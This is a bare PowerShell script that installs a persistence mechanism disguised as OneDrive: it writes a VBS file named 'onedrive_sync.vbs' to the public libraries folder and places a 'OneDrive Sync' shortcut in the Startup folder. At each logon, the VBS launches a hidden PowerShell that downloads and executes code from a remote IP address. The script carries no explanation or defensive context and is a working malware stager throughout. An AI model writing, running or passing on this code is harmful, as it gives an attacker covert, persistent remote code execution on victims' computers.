$startup = [Environment]::GetFolderPath('Startup')
$target = "$env:PUBLIC\Libraries\onedrive_sync.vbs"
Set-Content -Path $target -Value 'CreateObject("WScript.Shell").Run "powershell -nop -w hidden -c iex(irm http://198.51.100.23/p)", 0' -Encoding ASCII

$ws = New-Object -ComObject WScript.Shell
$lnk = $ws.CreateShortcut((Join-Path $startup 'OneDrive Sync.lnk'))
$lnk.TargetPath = 'C:\Windows\System32\wscript.exe'
$lnk.Arguments = "`"$target`""
$lnk.WindowStyle = 7
$lnk.Save()
